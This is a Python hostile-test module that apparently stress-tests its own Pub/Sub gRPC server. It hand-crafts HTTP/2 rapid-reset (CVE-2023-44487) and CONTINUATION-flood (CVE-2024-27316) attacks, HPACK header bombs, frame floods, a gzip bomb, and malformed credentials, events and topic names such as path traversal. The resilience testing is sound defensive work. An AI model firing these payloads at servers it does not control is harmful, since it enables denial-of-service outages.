"""Attacks on the Pub/Sub API: frames of HTTP/2 that no client sends, and calls of a user of one event."""

from __future__ import annotations

import contextlib
import gzip
import os
import struct
from pathlib import Path
from typing import Any, Final

import grpc

from events.proto import pubsub_api_pb2 as pb
from tests.hostile.siege import Attack, Target

__all__ = ["ATTACKS"]

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PUSH, _PING, _GOAWAY, _WINDOW, _CONTINUATION = range(10)
_TOPIC: Final = "/event/Mallory__e"
_LET_IN: Final = (grpc.StatusCode.OK,)


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _header(name: str, value: str) -> bytes:
    """A literal without indexing and without Huffman (RFC 7541, 6.2.2)."""

    def text(data: bytes) -> bytes:
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, out = len(data) - 127, bytearray([127])
        while rest > 127:
            out.append(rest & 127 | 128)
            rest >>= 7
        out.append(rest)
        return bytes(out) + data

    return b"\0" + text(name.encode()) + text(value.encode())


def _call(method: str = "GetTopic", **headers: str) -> bytes:
    named = {":method": "POST", ":scheme": "https", ":path": f"/eventbus.v1.PubSub/{method}", ":authority": "x", "content-type": "application/grpc", "te": "trailers", **headers}  # fmt: skip
    return b"".join(_header(name, value) for name, value in named.items())


def _open(*frames: bytes) -> bytes:
    return _PREFACE + _frame(_SETTINGS, 0, 0) + b"".join(frames)


def _send(target: Target, data: bytes) -> None:
    """Send, and leave the connection as it is."""
    sock = target.tls("h2")
    target.leave_open(sock)
    sock.settimeout(2)
    sock.sendall(data)
    with contextlib.suppress(OSError):
        sock.settimeout(0.2)
        sock.recv(65536)


def no_http2(target: Target) -> None:
    for data in (
        b"",
        _PREFACE[:10],
        _PREFACE,
        os.urandom(50_000),
        b"GET / HTTP/1.1\r\n\r\n",
        _open(os.urandom(50_000)),
    ):
        _send(target, data)
    for data in (b"", os.urandom(10_000), _open(), b"\x16\x03\x01"):
        sock = target.plain()
        target.leave_open(sock)
        sock.sendall(data)


def floods_of_frames(target: Target) -> None:
    for data in (
        _frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) * 5_000,
        _frame(_PING, 0, 0, b"12345678") * 5_000,
        _frame(_PRIORITY, 0, 1, b"\0\0\0\3\x10") * 5_000,
        _frame(_WINDOW, 0, 0, struct.pack(">I", 1)) * 5_000,
        _frame(_DATA, 0, 1) * 5_000,
        _frame(_GOAWAY, 0, 0, bytes(8)) * 100,
        _frame(0x42, 0, 0, bytes(100)) * 2_000,
    ):
        _send(target, _open(data))


def rapid_resets(target: Target) -> None:
    """CVE-2023-44487."""
    opened = (
        _frame(_HEADERS, 4, 2 * n + 1, _call()) + _frame(_RST_STREAM, 0, 2 * n + 1, bytes([0, 0, 0, 8]))
        for n in range(3_000)
    )
    _send(target, _open(*opened))


def endless_headers(target: Target) -> None:
    """CVE-2024-27316, and lists of headers that are large when they are unpacked."""
    piece = _header("x", "y" * 8_000)
    _send(target, _open(_frame(_HEADERS, 0, 1, _call()), *[_frame(_CONTINUATION, 0, 1, piece)] * 500))
    # One large entry of the table, named again and again by one byte.
    entry = b"\x40" + _header("x", "y" * 3_900)[1:]
    _send(target, _open(_frame(_HEADERS, 4, 1, _call() + entry + b"\xbe" * 12_000)))


def many_streams(target: Target) -> None:
    _send(target, _open(*(_frame(_HEADERS, 4, 2 * n + 1, _call("Subscribe")) for n in range(2_000))))


def odd_messages(target: Target) -> None:
    """Bodies that announce more than they have, or more than there may be."""
    bomb = gzip.compress(bytes(50_000_000))
    token = {"accesstoken": target.token, "instanceurl": "https://x", "tenantid": target.token.partition("!")[0]}
    for headers in ({}, token):
        for body in (
            b"\0\xff\xff\xff\xff" + bytes(1_000),
            b"\1" + struct.pack(">I", len(bomb)) + bomb,
            b"\7\0\0\0\1x",
            b"\0\0\0\0\x05" + b"\xff" * 5,
            b"\0" + struct.pack(">I", 10_000) + b"\x0b" * 10_000,
        ):
            pieces = [body[at : at + 16_000] for at in range(0, len(body), 16_000)]
            data = [_frame(_DATA, at == len(pieces) - 1, 1, piece) for at, piece in enumerate(pieces)]
            _send(target, _open(_frame(_HEADERS, 4, 1, _call(**{"grpc-encoding": "gzip"}, **headers)), *data))


@contextlib.contextmanager
def _channel(target: Target) -> Any:
    options = (("grpc.use_local_subchannel_pool", 1), ("grpc.max_metadata_size", 10_000_000), ("grpc.absolute_max_metadata_size", 10_000_000))  # fmt: skip
    credentials = grpc.ssl_channel_credentials(Path(target.ca).read_bytes())
    with grpc.secure_channel(target.address, credentials, options=options) as channel:
        yield channel


def _ends(call: Any, *, let_in: bool = True, stream: bool = False) -> None:
    """A call comes to an end, and not by an unforeseen error."""
    try:
        answers = [answer for _, answer in zip(range(3), call, strict=False)] if stream else [call.result(60)]
    except grpc.RpcError as error:
        code = error.code()  # type: ignore[attr-defined]
        assert code not in (grpc.StatusCode.UNKNOWN, grpc.StatusCode.INTERNAL), error
        return
    except grpc.FutureTimeoutError:
        raise AssertionError("the call was not answered within 60 s") from None
    finally:
        call.cancel()
    assert let_in or not answers, answers


def _metadata(target: Target, token: str | None = None) -> tuple[tuple[str, str], ...]:
    return (
        ("accesstoken", target.token if token is None else token),
        ("instanceurl", "https://x"),
        ("tenantid", target.token.partition("!")[0]),
    )


def odd_credentials(target: Target) -> None:
    with _channel(target) as channel:
        call = channel.unary_unary("/eventbus.v1.PubSub/GetTopic", pb.TopicRequest.SerializeToString)
        for token in ("", "x" * 5_000, "x" * 500_000, "00D!" + "a" * 100, "'\"", target.token[:-1]):
            _ends(
                call.future(pb.TopicRequest(topic_name=_TOPIC), metadata=_metadata(target, token), timeout=60),
                let_in=False,
            )
        flood = tuple((f"x{number}", "y" * 100) for number in range(2_000))
        _ends(call.future(pb.TopicRequest(), metadata=flood, timeout=60), let_in=False)


def odd_publishing(target: Target) -> None:
    with _channel(target) as channel:
        call = channel.unary_unary("/eventbus.v1.PubSub/Publish", pb.PublishRequest.SerializeToString)
        topic = channel.unary_unary(
            "/eventbus.v1.PubSub/GetTopic", pb.TopicRequest.SerializeToString, pb.TopicInfo.FromString
        )
        schema = topic(pb.TopicRequest(topic_name=_TOPIC), metadata=_metadata(target), timeout=60).schema_id
        for events in (
            [pb.ProducerEvent(schema_id=schema, payload=b"\xff" * 3_000_000)],
            [pb.ProducerEvent(schema_id=schema, payload=b"")] * 20_000,
            [pb.ProducerEvent(schema_id="x" * 100_000, payload=b"\0")],
            [pb.ProducerEvent(schema_id=schema, payload=bytes(20) + b"\xfe\xff\xff\xff\x0f")],
            [pb.ProducerEvent(id="x" * 500_000, schema_id=schema, payload=bytes(3))] * 5,
        ):
            _ends(
                call.future(pb.PublishRequest(topic_name=_TOPIC, events=events), metadata=_metadata(target), timeout=60)
            )
        for name in ("", "/", "/event/" + "a" * 100_000, "/event/../x", "/data/\0", "/event/Witness__e"):
            _ends(call.future(pb.PublishRequest(topic_name=name), metadata=_metadata(target), timeout=60), let_in=False)


def odd_subscriptions(target: Target) -> None:
    with _channel(target) as channel:
        call = channel.stream_stream("/eventbus.v1.PubSub/Subscribe", pb.FetchRequest.SerializeToString)
        for request in (
            pb.FetchRequest(topic_name=_TOPIC, num_requested=2**31 - 1, replay_preset=pb.ReplayPreset.EARLIEST),
            pb.FetchRequest(topic_name=_TOPIC, num_requested=-1),
            pb.FetchRequest(
                topic_name=_TOPIC, num_requested=1, replay_preset=pb.ReplayPreset.CUSTOM, replay_id=b"x" * 100_000
            ),
            pb.FetchRequest(topic_name="/event/Witness__e", num_requested=1, replay_preset=pb.ReplayPreset.EARLIEST),
        ):
            _ends(call(iter([request] * 100), metadata=_metadata(target), timeout=10), stream=True)
        managed = channel.stream_stream(
            "/eventbus.v1.PubSub/ManagedSubscribe", pb.ManagedFetchRequest.SerializeToString
        )
        for name in ("", "x" * 100_000, "Mallory_None"):
            _ends(
                managed(
                    iter([pb.ManagedFetchRequest(subscription_id=name, num_requested=1)]),
                    metadata=_metadata(target),
                    timeout=10,
                ),
                stream=True,
            )


ATTACKS: Final[list[Attack]] = [
    no_http2,
    floods_of_frames,
    rapid_resets,
    endless_headers,
    many_streams,
    odd_messages,
    odd_credentials,
    odd_publishing,
    odd_subscriptions,
]
